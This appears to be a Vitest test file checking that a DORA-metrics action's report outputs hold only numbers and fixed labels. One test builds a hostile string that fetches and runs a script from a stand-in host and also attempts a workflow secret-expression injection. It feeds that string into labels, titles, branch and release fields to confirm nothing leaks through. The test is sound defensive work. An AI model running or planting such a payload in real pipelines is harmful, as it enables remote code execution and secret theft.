import { describe, expect, it } from 'vitest';
import { buildReport } from '../../src/report/json.js';
import { OUTPUT_NAMES, reportOutputs } from '../../src/report/outputs.js';
import { change, deployment, doraResult, emptyMetrics, END, reportContext } from './fixtures.js';

describe('reportOutputs', () => {
  it('sets exactly the documented outputs, from the current window', () => {
    const outputs = reportOutputs(buildReport(doraResult(), reportContext()));
    expect(Object.keys(outputs).sort()).toEqual([...OUTPUT_NAMES].sort());
    expect(outputs).toEqual({
      'deployment-frequency': String(49 / 30),
      'deployment-frequency-tier': 'elite',
      deployments: '49',
      'lead-time-seconds': '130697',
      'lead-time-tier': 'high',
      'change-failure-rate': String(6 / 49),
      'change-failure-rate-tier': 'medium',
      'recovery-time-seconds': '6664',
      'recovery-time-tier': 'high',
      'rework-rate': String(6 / 49),
      'overall-tier': 'medium',
      'deployment-source': 'workflow',
      complete: 'true',
      alerts: '0',
    });
  });

  it('gives the empty string for a metric with no data, never 0', () => {
    const outputs = reportOutputs(buildReport(doraResult({ metrics: emptyMetrics }), reportContext({ complete: false })));
    expect(outputs['lead-time-seconds']).toBe('');
    expect(outputs['lead-time-tier']).toBe('');
    expect(outputs['change-failure-rate']).toBe('');
    expect(outputs['recovery-time-seconds']).toBe('');
    expect(outputs['rework-rate']).toBe('');
    expect(outputs.deployments).toBe('0');
    expect(outputs['deployment-frequency-tier']).toBe('low');
    expect(outputs.complete).toBe('false');
  });

  it('holds numbers and enums only: no pull request, label, branch or release text', () => {
    const hostile = '$(curl evil.sh | sh) ${{ secrets.TOKEN }} `id`';
    const d = deployment(1, END - 86_400_000, { deployment: { id: '1', time: END - 86_400_000, sha: 'a'.repeat(40), label: hostile } });
    const report = buildReport(
      doraResult({ deployments: [d], changes: [change(7, d, { title: hostile, author: hostile })] }),
      reportContext({ branch: hostile, trigger: { event: 'release', pullRequest: null, releaseTag: hostile } }),
    );
    for (const [name, value] of Object.entries(reportOutputs(report))) {
      expect(value, name).toMatch(/^(|-?\d+(\.\d+)?(e-?\d+)?|elite|high|medium|low|workflow|deployments|releases|merges|true|false)$/);
    }
  });
});
